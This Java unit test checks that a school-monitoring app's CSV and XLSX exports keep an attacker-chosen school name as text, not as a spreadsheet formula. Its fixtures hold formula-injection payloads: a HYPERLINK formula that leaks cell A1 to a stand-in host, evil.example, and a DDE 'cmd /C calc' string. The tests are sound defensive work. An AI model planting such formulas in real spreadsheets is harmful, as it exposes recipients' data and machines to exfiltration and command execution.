package ru.nastavnik.monitoring;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.OptionalInt;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import ru.nastavnik.programme.SchoolYear;

/** The figures' CSV and XLSX of a school whose name an attacker chose: no cell runs as a formula (docs/security.md). */
class MonitoringDocumentsTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Школа\")";

    @Test
    void theCsvMarksASchoolNameThatStartsLikeAFormulaAsText() {
        String csv = new String(MonitoringDocuments.csv(school(FORMULA)), StandardCharsets.UTF_8);

        assertThat(csv).startsWith("\uFEFFУчебный год;2026/2027;Школа;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"Школа\"\")\"\r\n")
                .contains("Показатель;Значение;Цель;Выполнено\r\n");
        assertThat(new String(MonitoringDocuments.csv(school("@SUM(1+1)*cmd|' /C calc'!A0")), StandardCharsets.UTF_8))
                .contains(";'@SUM(1+1)*cmd|' /C calc'!A0\r\n");
    }

    @Test
    void theXlsxKeepsTheNameAsTextWithExcelsQuotePrefix() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(MonitoringDocuments.xlsx(school("+7 495 " + FORMULA))))) {
            Cell name = book.getSheetAt(0).getRow(0).getCell(0);
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).startsWith("+7 495 =HYPERLINK");
            assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(book.getSheetAt(0).getRow(2).getCell(0).getCellStyle().getQuotePrefixed()).as("an ordinary cell").isFalse();
        }
    }

    private static KpiSnapshot school(String name) {
        return KpiSnapshot.of(name, new SchoolYear(2026), 1, new KpiSnapshot.Sources(List.of(), List.of(), List.of(),
                OptionalInt.empty(), OptionalInt.empty(), List.of(), List.of()));
    }
}
